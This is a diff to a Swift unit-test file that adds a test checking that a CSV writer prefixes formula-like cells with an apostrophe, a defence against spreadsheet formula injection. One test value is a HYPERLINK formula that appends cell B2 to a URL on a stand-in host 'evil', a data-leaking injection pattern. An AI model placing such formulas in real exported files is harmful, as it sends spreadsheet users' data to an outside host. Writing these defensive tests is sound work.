@@ -28,6 +28,13 @@ struct CSVTests {
         #expect(CSVWriter.text([["a", "b,c", "d\"e", "f\r\ng", " h"]]) == "a,\"b,c\",\"d\"\"e\",\"f\r\ng\",\" h\"\r\n")
     }
 
+    @Test func cellsThatWouldBeFormulasGetAnApostrophe() {
+        let hyperlink = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"
+        #expect(CSVWriter.text([[hyperlink]]) == "\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"点击\"\")\"\r\n")
+        #expect(CSVWriter.text([["+1", "-3", "@SUM(A1)", "\tx", "\rx", "=1"]]) == "'+1,'-3,'@SUM(A1),'\tx,\"'\rx\",'=1\r\n")
+        #expect(CSVWriter.text([["1-3", "a=b", " =1", "2025-06-01", "0", "85.71", "'"]]) == "1-3,a=b,\" =1\",2025-06-01,0,85.71,'\r\n")
+    }
+
     @Test func writtenCSVReadsBackUnchanged() throws {
         let rows = [["学号", "单位名称"], ["001", "厦门\"星辰\",科技\r\n有限公司"]]
         let records = try CSVReader.records(in: CSVWriter.text(rows))
